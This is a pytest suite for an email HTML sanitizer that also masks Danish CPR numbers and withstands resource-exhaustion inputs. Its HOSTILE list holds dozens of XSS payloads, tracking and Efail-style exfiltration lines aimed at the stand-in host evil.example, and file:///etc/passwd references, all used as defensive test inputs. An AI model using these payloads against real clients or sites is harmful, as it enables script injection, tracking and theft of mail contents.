"""HTML of strangers: what it says and how it is laid out stays; nothing that fetches, runs, sends or hides."""

import random
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dpassist.domain.identity import has_cpr_shape, mask_cpr
from dpassist.mailio.html_clean import clean, is_readable, number_pictures
from dpassist.mailio.html_grid import WIDEST_ROW
from dpassist.mailio.html_nesting import DEEPEST, DEEPEST_TABLE, MOST_CELLS, MOST_TOKENS
from dpassist.mailio.html_tokens import ATTRIBUTES, BLOCKS, INLINE, TABLE, VOID
from tests.peak_memory import peak_of
from tests.processor_time import within

LIMIT = 256 * 1024
CPR = "0099991234"
REL = 'rel="noopener noreferrer"'
ALLOWED = INLINE | BLOCKS | TABLE | VOID

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//>",
    "<img src='http://evil.example/seen.gif?id=1'>",
    "<img src=//evil.example/seen.gif>",
    "<img src='file:///etc/passwd'>",
    "<img src='\\\\evil.example\\share\\x.png'>",
    "<img src='/etc/passwd'>",
    "<img src=':/icons/app.svg'>",
    "<img src='qrc:/x.png'>",
    "<img src='data:image/png;base64,iVBORw0KGgo='>",
    "<img src='cid:a\" onerror=\"alert(1)'>",
    "<img src='cid:../../etc/passwd'>",
    "<img srcset='http://evil.example/a 1x' src='cid:x'>",
    "<img dynsrc=http://evil.example/a lowsrc=http://evil.example/b>",
    "<input type=image src=http://evil.example/a>",
    "<body background='http://evil.example/a' onload=alert(1)>",
    "<table background='http://evil.example/a'><tr><td background=http://evil.example/b>x",
    "<div style=\"background:url('http://evil.example/a')\">x</div>",
    "<div style='background-image:\\75rl(http://evil.example/a)'>x</div>",
    "<div style='color:red;background:u/**/rl(http://evil.example/a)'>x</div>",
    "<ul style='list-style-image:url(http://evil.example/a)'><li>x</ul>",
    "<style>@import url(http://evil.example/a.css); body {background: url(//evil.example)}</style>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/><a href=x>x</a>",
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.example/a.swf></object>",
    "<embed src=http://evil.example/a.swf>",
    "<applet code=a.class archive=http://evil.example/a.jar></applet>",
    "<video poster=http://evil.example/a><source src=http://evil.example/b></video>",
    "<audio src=http://evil.example/a autoplay></audio>",
    "<svg><image href=http://evil.example/a /><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<form action=http://evil.example><input name=p><button formaction=http://evil.example>x",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='file:///C:/Windows/System32/calc.exe'>x</a>",
    "<a href='\\\\evil.example\\share'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='ms-word:ofe|u|http://evil.example/x.docm'>x</a>",
    "<a href='search-ms:query=x&crumb=location:\\\\evil.example'>x</a>",
    "<a href='ldap://evil.example'>x</a>",
    "<a href=https://ok.example ping=http://evil.example target=_top onclick=alert(1)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if mso]><img src=http://evil.example/a><![endif]-->",
    "<![if !vml]><img src=http://evil.example/a><![endif]>",
    "<v:imagedata src='http://evil.example/a' o:href='http://evil.example/b'/>",
    "<?xml-stylesheet href='http://evil.example/a.css'?>",
    "<img src='http://evil.example/",  # Efail: the rest of a decrypted letter would go along
    "<a href='http://evil.example/?",
    "<plaintext><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<frameset><frame src=http://evil.example></frameset>",
    "<p style='-qt-block-indent:1; -qt-user-state:2; -qt-paragraph-type:empty'>x</p>",
    "<font color=red face='x' size=7>x</font>",
    "<p dir=rtl><bdo dir=rtl>x</bdo></p>",
    "<div id=x class=y name=z contenteditable tabindex=1 accesskey=x>x</div>",
    "<a name=x id=y>x</a><map><area href=http://evil.example></map>",
]


class Seen(HTMLParser):
    """What a second parser sees in the result."""

    def __init__(self, result: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.words = ""
        self.depth = 0
        self._open: list[str] = []
        self.feed(result)
        self.close()
        assert self._open == []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self._open.append(tag)
            self.depth = max(self.depth, len(self._open))

    def handle_endtag(self, tag):
        if tag not in VOID:  # "well nested" is checked right here
            assert self._open.pop() == tag

    def handle_data(self, data):
        self.words += data

    def handle_comment(self, data):
        raise AssertionError("a comment")

    handle_decl = unknown_decl = handle_pi = handle_comment


def assert_harmless(result: str) -> Seen:
    seen = Seen(result)
    for tag, attributes in seen.tags:
        assert tag in ALLOWED
        assert set(attributes) <= ATTRIBUTES | {"rel"}
        if "href" in attributes:
            assert tag == "a"
            assert attributes["href"].lower().startswith(("http://", "https://", "mailto:"))
            assert attributes["rel"] == "noopener noreferrer"
        if "src" in attributes:
            assert tag == "img"
            assert attributes["src"].lower().startswith("cid:")
            assert not set(attributes["src"]) & set("/\\ \"'<>")
        for rule in attributes.get("style", "").split(";"):
            assert not set(rule) & set("\\/@*<>\"'&")
            assert "url" not in rule
    return seen


@pytest.mark.parametrize("source", HOSTILE)
def test_what_could_fetch_run_or_send_is_gone(source):
    assert_harmless(clean(source, LIMIT))
    assert_harmless(clean(f"<div><table><tr><td>før {source} efter</td></tr></table></div>", LIMIT))


def test_two_hostile_pieces_do_not_make_a_third():
    pick = random.Random(4)
    for _ in range(1500):
        parts = pick.choices(HOSTILE, k=3)
        cut = pick.randrange(len(parts[0]) + 1)
        assert_harmless(clean(parts[0][:cut] + parts[1] + parts[2][cut:] + parts[0][cut:], LIMIT))


_PIECES = st.sampled_from([
    *("<", ">", "</", "/>", "=", '"', "'", "&", ";", "&#", "&lt;", "&#0;", "&#x202e;", " ", "\n", "\0", "x"),
    *("<!--", "-->", "<![CDATA[", "<?", "\u202e", "\u200b", CPR, "0099", "99", "1234", "æ", "😀", "</p>"),
    *(f"<{tag}>" for tag in sorted(ALLOWED)),
    *(f"</{tag}>" for tag in sorted(ALLOWED)),
    *("<script>", "</script>", "<style>", "<svg>", "<math>", "<title>", "<form>", "<select>", "<frameset>"),
    *("<td colspan=9 rowspan=40>", "<img src=cid:a>", "<img src=http://a.example alt=kat>", "<p style='color:red'>"),
    *("<a href=https://a.example>", "<a href=javascript:x>", "<table><tr><td>", "<ol><li>"),
])  # fmt: skip


@given(st.lists(_PIECES, max_size=60))
def test_any_mixture_of_markup_comes_out_harmless_and_well_nested(pieces):
    seen = assert_harmless(clean("".join(pieces), LIMIT))
    assert seen.depth <= DEEPEST + 4
    assert not has_cpr_shape(seen.words)
    assert not set(seen.words) & set("\u202e\u200b\0")


@given(st.text(max_size=200))
def test_any_text_comes_out_harmless_and_cleaning_twice_changes_nothing_that_is_seen(text):
    once = clean(text, LIMIT)
    assert Seen(clean(once, LIMIT)).words.split() == assert_harmless(once).words.split()


@pytest.mark.parametrize(
    ("source", "result"),
    [
        ("<p>Kære <b>Asta</b></p>", "<p>Kære <b>Asta</b></p>"),
        ("<p>et<p>to", "<p>et</p><p>to</p>"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"),
        ("<section>a</section><article>b</article>", "<div>a</div><div>b</div>"),
        ("<b>fed <i>begge</b> ren</i>", "<b>fed <i>begge</i></b> ren"),
        ("a</div></b>b", "ab"),
        ("x<br>y<hr>z", "x<br>y<hr>z"),
        ("<a href=https://a.example>en <a href=mailto:b@b.example>to",
         f'<a href="https://a.example" {REL}>en </a><a href="mailto:b@b.example" {REL}>to</a>'),
        ("<a href='MAILTO:byg@kommune.example'>skriv</a>",
         '<a href="MAILTO:byg@kommune.example" rel="noopener noreferrer">skriv</a>'),
        ("<a href='https://a.example/\u202eexe.pdf'>tekst</a>", f"<a {REL}>tekst</a>"),
        ("<a href=javascript:x>tekst</a>", '<a rel="noopener noreferrer">tekst</a>'),
        ("<table border=1 width=600><tr><td colspan=2 valign=top>a</table>",
         '<table border="1" width="600"><tbody><tr><td valign="top" colspan="2">a</td></tr></tbody></table>'),
        ("<table>løs<tr><td>a", "<table><tbody><tr><td>løs</td></tr><tr><td>a</td></tr></tbody></table>"),
        ("<table><td>a<td>b", "<table><tbody><tr><td>a</td><td>b</td></tr></tbody></table>"),
        ("<table><thead><tr><th>a<tbody><tr><td>b",
         "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>"),
        ("<table><caption>navn<tr><td>a",
         "<table><caption>navn</caption><tbody><tr><td>a</td></tr></tbody></table>"),
        ("<b><table><tr><td>x</b>y", "<b><table><tbody><tr><td>xy</td></tr></tbody></table></b>"),
        ("<td>a<td>b", "a b"),
        ("a<tr>b<tr>c", "a<br>b<br>c"),
        ("<pre>a\n  b</pre>", "<pre>a\n  b</pre>"),
        ("<img src=CID:logo@x width=120 height=9999 alt=Logo>", '<img src="CID:logo@x" width="120">'),
        ("<img src=http://evil.example/x alt='et billede'>", "[et billede]"),
        ("<img src=http://evil.example/x>", ""),
        ("<p style='color:#c00; FONT-WEIGHT:bold; position:fixed; font-size:0'>x",
         '<p style="color: #c00; font-weight: bold">x</p>'),
        ("<span style='color:white'>skjult</span>", "<span>skjult</span>"),
        ("<font color=#fefefe>skjult</font><font color=blue>synlig</font>",
         '<font>skjult</font><font color="blue">synlig</font>'),
        ("<p style='display:none'>skjult</p>", "<p>skjult</p>"),
        ("<title>emne</title><style>p {}</style><p>x", "<p>x</p>"),
        ("<svg/>x<svg>y</svg>z", "xz"),
        ("x<script>aldrig lukket", "x"),
        ("x<!-- aldrig lukket", "x"),
        ("x<!doctype html>y<!z", "xy"),
        ("1 < 2 & 3 > 2 &lt;b&gt;", "1 &lt; 2 &amp; 3 &gt; 2 &lt;b&gt;"),
        ("&#99999999999;&nbsp;x", "\ufffd&nbsp;x"),
        ("h\ud800alv <b title='\udfff'>\ude8f</b>", "h?alv <b>?</b>"),
        ("&#xd800;&#x110000;", "\ufffd\ufffd"),
        ("<noscript>uden <object>eller</object></noscript>", "uden eller"),
        ("", ""),
    ],
)  # fmt: skip
def test_words_and_layout_stay(source, result):
    assert clean(source, LIMIT) == result


def test_what_the_mail_calls_its_own_pictures_is_kept_whole():
    assert 'src="cid:image001.png@01D4F2A0.1234567890"' in clean(
        "<img src='cid:image001.png@01D4F2A0.1234567890'>", LIMIT
    )


def test_pictures_are_named_by_numbers_and_what_looks_like_one_in_the_text_is_left_alone():
    source = """<p><img src="cid:a@x" width=10><img src='CID:b%26c&amp;d'>src="cid:x"
        <img width=5 src=cid:a@x> &lt;img src="cid:y"&gt; <a href="https://x.example/?src=cid:z">z</a></p>"""
    result, ids = number_pictures(clean(source, LIMIT))
    assert ids == ("a@x", "b&c&d")
    assert [a["src"] for tag, a in Seen(result).tags if tag == "img"] == ["cid:0", "cid:1", "cid:0"]
    assert Seen(result).words == Seen(clean(source, LIMIT)).words


@pytest.mark.parametrize(
    "source",
    [
        f"<p>{CPR}</p>",
        "<p>0099<b>99</b>-<i>1234</i></p>",
        "<p>009999 <b> 1234</b></p>",
        "<table><tr><td>009999</td><td>1234</td></tr></table>",
        "<table>009999<td>1234</table>",
        "009999&shy;1234",
        "00&#8203;9999<!-- -->1234",
        f"<img src=http://x.example alt={CPR}>",
        f"<p>{'x' * 997}{CPR}",
    ],
)
def test_a_cpr_number_is_hidden_however_it_is_marked_up(source):
    words = Seen(clean(source, LIMIT)).words
    assert not has_cpr_shape(words)
    assert "1234" not in words


@given(
    st.lists(
        st.sampled_from([CPR, "0099991234 ", "009999", "-1234", "<b>", "</b>", " x "]), max_size=30
    )
)
def test_hiding_through_tags_is_the_same_as_hiding_in_the_text(pieces):
    plain = " ".join("".join(p for p in pieces if "<" not in p).split())
    assert Seen(clean("".join(pieces), LIMIT)).words.strip() == mask_cpr(plain)


def test_what_stands_between_two_hidden_numbers_stays():
    result = clean(f"<p>{CPR} <b>og</b> {CPR[:6]}-{CPR[6:]} i sag <i>12</i></p>", LIMIT)
    assert result == "<p>••••••-•••• <b>og</b> ••••••-•••• i sag <i>12</i></p>"


@pytest.mark.parametrize(
    ("colour", "readable"),
    [
        ("red", True), ("#f00", True), ("rgb(192, 0, 0)", True), ("#000000", True), ("gray", True),
        ("white", False), ("#fff", False), ("#fefefe", False), ("rgb(255,255,255)", False), ("yellow", False),
        ("rgb(999,0,0)", False), ("transparent", False), ("rgba(0,0,0,0)", False), ("#12345", False), ("", False),
    ],
)  # fmt: skip
def test_a_colour_stays_when_it_can_be_read_on_white(colour, readable):
    assert is_readable(colour) is readable


class TestLimits:
    def test_what_is_over_the_limit_is_left_out_with_a_mark(self):
        assert clean("<p>abcdef</p>", 3) == "<p>abc […]</p>"
        assert clean("abc", 3) == "abc"

    def test_elements_deeper_than_the_limit_are_left_out_and_their_words_stay(self):
        seen = Seen(clean("<div>" * 500 + "bunden" + "</div>" * 500 + "<p>efter", LIMIT))
        assert seen.depth <= DEEPEST
        assert seen.words == "bundenefter"

    def test_tables_deeper_than_the_limit_become_lines(self):
        rows = "<tr><td>a</td><td>b</td></tr><tr><td>c</td></tr>"
        inner = f"<table>{rows}</table>"
        source = "<table><tr><td>" * DEEPEST_TABLE + inner + "</table>" * DEEPEST_TABLE + "<p>efter"
        result = clean(source, LIMIT)
        assert result.count("<table") == DEEPEST_TABLE
        assert "a b <br>c" in result
        assert result.endswith("<p>efter</p>")

    def test_lists_deeper_than_the_limit_stay_at_the_limit(self):
        result = clean("<ul><li>x" * 30 + "</ul>" * 30, LIMIT)
        assert result.count("<ul>") == 10
        assert result.count("<li>") == 30

    def test_a_row_wider_than_the_limit_goes_on_in_the_next_row(self):
        result = clean("<table><tr>" + "<td>x" * (WIDEST_ROW + 1) + "</table>", LIMIT)
        assert result.count("<tr>") == 2
        assert result.count("<td>") == WIDEST_ROW + 1

    @pytest.mark.parametrize(
        "row",
        [
            "<tr><td>x",
            "<tr>" + "<td>x" * 30,
            "<tr><td colspan=40>x",
            "<tr><td rowspan=40 colspan=9>x<td>y",
        ],
    )
    def test_a_grid_that_costs_too_much_ends_and_the_rest_comes_as_lines(self, row):
        source = "<table><tr>" + "<td>a" * 40 + row * 4000 + "</table><p>efter</p>"
        result = clean(source[: -len("<p>efter</p>")], LIMIT)
        assert _grid_size(result) <= MOST_CELLS
        assert "<br>" in result or "[…]" in result

    def test_a_cell_that_would_widen_a_long_table_comes_behind_it(self):
        result = clean("<table>" + "<tr><td>x" * (MOST_CELLS // 2 + 1) + "<td>bred</table>", LIMIT)
        assert result.endswith("<td>x</td></tr></tbody></table>bred")

    def test_after_a_table_that_was_given_up_the_letter_goes_on(self):
        rows = "<tr><td>x" * (MOST_CELLS + 10)
        result = clean(f"<table>{rows}</table><table><tr><td>ny</table><p>efter", LIMIT)
        assert result.count("<table") == 1
        assert result.endswith("<p>efter</p>")

    def test_a_span_beyond_any_table_is_no_span(self):
        assert "colspan" not in clean("<table><tr><td colspan=99999999>x", LIMIT)
        assert "colspan" not in clean("<table><tr><td colspan=0>x", LIMIT)

    def test_there_are_only_so_many_pictures_and_tables(self):
        result = clean("<img src=cid:a>" * 1000 + "<table></table>" * 1000, LIMIT)
        assert result.count("<img") == 200
        assert result.count("<table") == 500

    def test_a_word_without_end_gets_places_to_break_the_line(self):
        words = Seen(
            clean("x" * 2500 + "<b>" + "y" * 900 + "</b>" + "z" * 900, LIMIT)
        ).words.split()
        assert max(map(len, words)) <= 2000

    @pytest.mark.parametrize("unit", ["<b>x</b>", "x\n", "<br>", "&lt;\n"])
    def test_there_are_only_so_many_tags_and_lines(self, unit):
        result = clean("<pre>" + unit * 100_000, LIMIT)
        assert result.count("\n") + result.count("<") <= MOST_TOKENS + 2
        assert "[…]" in result[-20:]


def _grid_size(result: str) -> int:
    """Rows times the widest row, cells from above counted in, as a viewer lays a table out."""
    taken: dict[tuple[int, int], bool] = {}
    rows = result.split("<tr>")[1:]
    for y, row in enumerate(rows):
        x = 0
        for cell in row.split("<td")[1:]:
            wide, high = (_stated(cell, name) for name in ("colspan", "rowspan"))
            while taken.get((x, y)):
                x += 1
            taken.update({(x + i, y + j): True for i in range(wide) for j in range(high)})
            x += wide
    columns = max(x for x, y in taken if y < len(rows)) + 1
    return columns * len(rows)


def _stated(cell: str, name: str) -> int:
    head = cell.partition(">")[0]
    return int(head.partition(f'{name}="')[2].partition('"')[0] or 1)


_N = 100_000
BOMBS = {
    "nested div": "<div>" * _N,
    "crossed": "<b><p>" * _N,
    "many formats": "".join(f"<font color={n}><p>" for n in range(_N)),
    "nested tables": "<table><tr><td>x" * _N,
    "cells without a row": "<table>" + "<b>x<td>" * _N,
    "open quotes": '<a href="' * _N,
    "open tags": "<a " * _N,
    "brackets": "<" * (20 * _N),
    "ampersands": "&" * (20 * _N),
    "comments": "<!--" * _N,
    "declarations": "<!x" * _N,
    "scripts": "<script>" * _N,
    "one long name": "<p " + "a" * (20 * _N) + ">",
    "many attributes": "<p " + "style=x " * (2 * _N) + ">",
    "one long style": "<p style='" + "color:red;" * _N + "'>x",
    "spaces": "<p>" + " " * (20 * _N),
    "numbers": "&#" + "9" * (20 * _N),
    "cpr numbers in tags": f"<b>{CPR} </b>" * _N,
    "20 MB": "<p>Kære borger</p>" * 1_200_000,
}


@pytest.mark.unmeasured
@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_takes_little_time_and_memory(name):
    """Measured: the slowest takes 0.4 s and 60 MB; the roomy bounds only tell linear from square."""
    source = BOMBS[name]
    with within(30):
        peak, result = peak_of(lambda: clean(source, LIMIT))
    assert peak < 150_000_000
    assert len(result) < 8 * LIMIT
